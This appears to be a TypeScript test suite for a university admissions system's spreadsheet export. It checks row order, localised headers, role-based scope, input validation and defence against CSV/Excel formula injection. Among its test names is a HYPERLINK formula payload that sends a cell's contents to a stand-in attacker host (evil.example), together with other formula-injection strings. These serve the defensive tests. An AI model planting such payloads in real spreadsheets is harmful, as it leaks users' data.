import { APPLICATION_EXPORT_TYPE, DOCTOR_AREA, RegisterType, type ApplicationExportRequest, type ApplicationListRequest, type ApplicationListView } from '@gradus/contract';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertApplications, type ApplicationSpec } from '../../../test/application-factory';
import { buildTestApp, call, signIn, type TestApp } from '../../../test/harness';
import { asText, EXPORT_BATCH } from './export';

let t: TestApp;
let tokens: { office: string; secretary: string; reviewer: string; sysadmin: string; applicant: string };
let specs: ApplicationSpec[];
let userIds: number[];
const dept: Record<string, number> = {};
const prog: Record<string, number> = {};

const EXPORT = '/mucgrs-service/staff/applications/export';
const DAY = 86_400_000;
/** More than two batches, so the file is read in several and every seam between them is checked. */
const SIZE = EXPORT_BATCH * 2 + 150;
const INJECTIONS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', '+86 13800138000', '-2+3', '@SUM(A1:A9)'];

/**
 * Applications with many ties (a few dozen submission times, a dozen names), drafts without a
 * submission (more than a batch of them) and forms without a programme: the orders' hard cases
 * fall on the batches' seams.
 */
function makeSpecs(now: number): ApplicationSpec[] {
  const names = ['张伟', '王芳', '李娜', '刘洋', '陈静', '杨磊', '赵敏', '黄丽', '周杰', '吴霞', 'Ana', 'Émile'];
  const codes = ['CS', 'ECON', 'ETH'];
  return Array.from({ length: SIZE }, (_, i): ApplicationSpec => {
    const department = codes[i % 3]!;
    const formStatus = (['submitted', 'draft', 'draft', 'returned'] as const)[i % 4]!;
    return {
      number: `2027180${String(i).padStart(4, '0')}`,
      name: INJECTIONS[i] ?? names[(i * 7) % names.length]!,
      registerType: RegisterType.DOCTOR_ASSESSMENT,
      recruitYear: '2027',
      area: DOCTOR_AREA,
      departmentId: dept[department]!,
      programmeId: i % 11 === 0 ? null : prog[`${department}-PHD`]!,
      formStatus,
      savedAt: now - (i % 37) * DAY,
      submittedAt: formStatus === 'draft' ? null : now - (i % 29) * DAY,
      paid: i % 2 === 0,
      photo: (['missing', 'uploaded', 'approved', 'rejected'] as const)[Math.floor(i / 4) % 4]!,
      qualification: (['pending', 'pending', 'pass', 'fail', 'pending'] as const)[i % 5]!,
    };
  });
}

beforeAll(async () => {
  t = await buildTestApp();
  const db = t.app.ctx.db;
  for (const d of await db.selectFrom('department').select(['id', 'code']).execute()) dept[d.code] = d.id;
  for (const p of await db.selectFrom('programme').select(['id', 'code']).execute()) prog[`${p.code.split('-')[0]}-${p.code.split('-')[1]}`] = p.id;
  specs = makeSpecs(t.clock.now());
  userIds = await insertApplications(db, t.clock.now(), specs);
  tokens = {
    office: await signIn(t.app, 'admin'),
    secretary: await signIn(t.app, 'secretary'),
    reviewer: await signIn(t.app, 'reviewer'),
    sysadmin: await signIn(t.app, 'sysadmin'),
    applicant: await signIn(t.app, 'assessment'),
  };
}, 120_000);
afterAll(async () => t.close());

/** The export's sheet as text, header row first, read back by ExcelJS as a spreadsheet program would. */
async function exported(token: string, body: ApplicationExportRequest, lang = 'en') {
  const res = await t.app.inject({
    method: 'POST',
    url: EXPORT,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', 'accept-language': lang },
    payload: JSON.stringify(body),
  });
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const rows: string[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => rows.push((row.values as unknown[]).slice(1).map((v) => (v === undefined || v === null ? '' : String(v)))));
  return { res, sheet, header: rows[0]!, rows: rows.slice(1) };
}

/** Every row the list shows for the same filters, page after page, in its order. */
async function listed(token: string, body: ApplicationListRequest) {
  const rows = [];
  for (let pageNum = 1; ; pageNum++) {
    const r = await call<ApplicationListView>(t.app, '/mucgrs-service/staff/applications/list', { token, body: { ...body, pageSize: 100, pageNum }, lang: 'en' });
    expect(r.code, r.msg).toBe(0);
    rows.push(...r.data.rows);
    // Past the list's count cap the total is "more than": read on until a page comes back empty.
    if ((!r.data.totalCapped && rows.length >= r.data.total) || r.data.rows.length === 0) return rows;
  }
}

describe('the applications export: the list, every row of it', () => {
  it.each([
    ['the default order (newest submission first, drafts last)', {}],
    ['submission, oldest first', { sortOrder: 'ascend' }],
    ['name ascending', { sortField: 'name', sortOrder: 'ascend' }],
    ['programme descending (forms without one last)', { sortField: 'programme', sortOrder: 'descend' }],
    ['number, unpaid only', { sortField: 'applicantNumber', sortOrder: 'ascend', payment: 'unpaid' }],
    ['last save, submitted and pending review', { sortField: 'savedAt', formStatus: 'submitted', qualification: 'pending' }],
    ['drafts only, none with a submission time', { formStatus: 'draft' }],
  ] as const)('gives the office the rows the list gives, in its order: %s', async (_name, filters) => {
    const want = await listed(tokens.office, { area: DOCTOR_AREA, ...filters });
    const { rows } = await exported(tokens.office, { area: DOCTOR_AREA, ...filters });
    expect(rows.map((r) => r[0])).toEqual(want.map((r) => r.applicantNumber));
    expect(new Set(rows.map((r) => r[0])).size).toBe(rows.length);
  });

  it('spans every application when no filter is set, and nothing more', async () => {
    const { rows } = await exported(tokens.office, {});
    expect(rows).toHaveLength(SIZE);
  });

  it("writes each row as the list shows it, in the caller's words and Beijing time", async () => {
    const i = 4;
    const { rows } = await exported(tokens.office, { q: specs[i]!.number });
    const submitted = new Date(specs[i]!.submittedAt! + 8 * 3_600_000).toISOString().slice(0, 16).replace('T', ' ');
    expect(rows).toEqual([
      [specs[i]!.number, specs[i]!.name, 'Doctoral', '2027', 'School of Economics', expect.any(String), 'Submitted', submitted, 'Paid', 'Waiting for review', 'Not decided'],
    ]);
    const zh = await exported(tokens.office, { q: specs[i]!.number }, 'zh-CN');
    expect(zh.rows[0]).toEqual([specs[i]!.number, specs[i]!.name, '博士', '2027', '经济学院', expect.any(String), '已提交', submitted, '已缴费', '待审核', '未审核']);
  });

  it('heads the columns in the caller language', async () => {
    expect((await exported(tokens.office, { q: 'nobody' }, 'en')).header).toEqual([
      'Applicant number',
      'Name',
      'Area',
      'Recruitment year',
      'Department',
      'Programme',
      'Form',
      'Submitted (Beijing time)',
      'Fee',
      'Photo',
      'Eligibility review',
    ]);
    const zh = await exported(tokens.office, { q: 'nobody' }, 'zh-CN');
    expect(zh.header).toEqual(['报名号', '姓名', '招生类别', '招生年度', '院系', '专业', '报名表', '提交时间（北京时间）', '报名费', '照片', '资格审核']);
    expect(zh.rows).toEqual([]);
  });

  it('names the file after the cycle and the day, as an .xlsx attachment', async () => {
    const { res } = await exported(tokens.office, { recruitYear: '2027', q: 'nobody' });
    expect(res.headers['content-type']).toBe(APPLICATION_EXPORT_TYPE);
    // The test clock stands at 2026-11-22 09:00 UTC, the same day in Beijing.
    expect(res.headers['content-disposition']).toContain('filename="applications-2027-2026-11-22.xlsx"');
  });
});

describe('the applications export: formula injection', () => {
  it('keeps a name typed as a formula as text, behind an apostrophe', async () => {
    const { rows, sheet } = await exported(tokens.office, { sortField: 'applicantNumber', sortOrder: 'ascend', q: '202718000' });
    const names = rows.slice(0, INJECTIONS.length).map((r) => r[1]);
    expect(names).toEqual(INJECTIONS.map((name) => `'${name}`));
    for (let r = 2; r < 2 + INJECTIONS.length; r++) {
      const cell = sheet.getRow(r).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['\t=1', "'\t=1"],
    ['\r@x', "'\r@x"],
    ['王=1', '王=1'],
    ['', ''],
  ])('%j is written as %j', (value, written) => {
    expect(asText(value)).toBe(written);
  });
});

describe('the applications export: scope', () => {
  it("gives a secretary their own department's rows only, whatever the filter asks", async () => {
    const want = await listed(tokens.secretary, {});
    expect(want.length).toBeGreaterThan(0);
    const { rows } = await exported(tokens.secretary, {});
    expect(rows.map((r) => r[0])).toEqual(want.map((r) => r.applicantNumber));
    expect(new Set(rows.map((r) => r[4]))).toEqual(new Set(['School of Computer Science and Technology']));
    expect((await exported(tokens.secretary, { departmentId: dept.ECON })).rows).toEqual([]);
  });

  it('gives an expert the applications assigned to them and nothing else', async () => {
    const db = t.app.ctx.db;
    expect((await exported(tokens.reviewer, {})).rows).toEqual([]);
    const reviewer = await db.selectFrom('app_user').select('id').where('login_name', '=', 'reviewer').executeTakeFirstOrThrow();
    const assign = (i: number) => ({ expert_user_id: reviewer.id, applicant_user_id: userIds[i]!, recruit_year: '2027', area: DOCTOR_AREA, stage: 'materialReview', assigned_by: null, assigned_at: t.clock.now() });
    await db.insertInto('expert_assignment').values([assign(7), assign(8), assign(1500)]).execute();
    const want = await listed(tokens.reviewer, {});
    expect(want.map((r) => r.applicantNumber).sort()).toEqual([specs[7]!.number, specs[8]!.number, specs[1500]!.number].sort());
    expect((await exported(tokens.reviewer, {})).rows.map((r) => r[0])).toEqual(want.map((r) => r.applicantNumber));
  });

  it('refuses the system administrator and applicants with a reply, not a file', async () => {
    for (const token of [tokens.sysadmin, tokens.applicant]) {
      const r = await call(t.app, EXPORT, { token, body: {}, lang: 'en' });
      expect(r.code).toBe(403);
      expect(String(r.raw.headers['content-type'])).toContain('json');
      expect(r.data).toBeUndefined();
    }
  });
});

describe('the applications export: bad input says which field', () => {
  it.each([
    [{ pageSize: 20 }, 'Page size: not an accepted field'],
    [{ orderBy: 'name' }, 'orderBy: not an accepted field'],
    [{ payment: 'maybe' }, 'Payment: not one of the allowed choices'],
    [{ sortField: 'password_hash' }, 'Sort by: not one of the allowed choices'],
    [{ recruitYear: '27' }, 'Recruitment year: not in a valid form'],
  ])('%o -> "%s"', async (body, message) => {
    const r = await call(t.app, EXPORT, { token: tokens.office, body, lang: 'en' });
    // Refusals travel in the envelope (spec 7), never as a file.
    expect(r.code).toBe(400);
    expect(r.data).toBeUndefined();
    expect(r.msg).toContain(message);
  });

  it('names the field in the caller language', async () => {
    const r = await call(t.app, EXPORT, { token: tokens.office, body: { photo: 'blurry' }, lang: 'zh-CN' });
    expect(r.code).toBe(400);
    expect(r.msg).toContain('照片');
  });
});
